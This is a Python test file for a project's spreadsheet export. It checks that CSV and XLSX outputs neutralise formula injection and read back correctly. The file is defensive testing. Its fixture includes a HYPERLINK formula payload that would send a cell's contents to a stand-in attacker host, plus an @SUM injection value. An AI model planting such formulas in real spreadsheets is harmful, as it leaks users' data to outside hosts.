"""Spreadsheet exports never hand a formula to Excel (OWASP CSV injection), and read back."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from toiles.io import export_toile, read_export
from toiles.models import Actor, Flow, Toile

HOSTILE = '=HYPERLINK("http://attaquant.example/?"&A1,"clic")'


def hostile_toile() -> Toile:
    return Toile(
        id="formules",
        name="Formules",
        theme="energie",
        actors=[
            Actor(id="a", name=HOSTILE, kind="entreprise", description="+33 3 21 00 00 00"),
            Actor(id="b", name="@SUM(1+1)", kind="entreprise", description="-moins"),
            Actor(id="c", name="'=déjà protégé", kind="entreprise", lon=-1.5, lat=50.1),
        ],
        flows=[Flow(id="f", source="a", target="b", kind="chaleur", quantity=12.5, unit="MWh")],
    )


@pytest.mark.parametrize("excel", [False, True])
def test_csv_export_neutralises_formulas_and_reads_back(tmp_path: Path, *, excel: bool) -> None:
    toile = hostile_toile()
    folder = export_toile(toile, "csv", tmp_path / "t", excel=excel)
    encoding, delimiter = ("utf-8-sig", ";") if excel else ("utf-8", ",")
    with (folder / "actors.csv").open(encoding=encoding, newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=delimiter))
    assert rows[0]["name"] == "'" + HOSTILE
    assert rows[0]["description"] == "'+33 3 21 00 00 00"
    assert rows[1]["name"] == "'@SUM(1+1)"
    assert rows[2]["name"] == "''=déjà protégé"
    assert rows[2]["lon"] == ("-1,5" if excel else "-1.5")  # a negative number stays a number
    assert not any(
        v.startswith(("=", "+", "-", "@")) for r in rows for k, v in r.items() if k != "lon"
    )
    assert read_export(folder) == toile


def test_xlsx_export_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    toile = hostile_toile()
    path = export_toile(toile, "xlsx", tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(path)["acteurs"]
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.data_type == "s"  # a string, not a formula ("f")
    assert name.value == HOSTILE
    assert name.quotePrefix
    lon = sheet.cell(row=4, column=header.index("lon") + 1)
    assert lon.data_type == "n"
    assert lon.value == -1.5
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert read_export(path) == toile
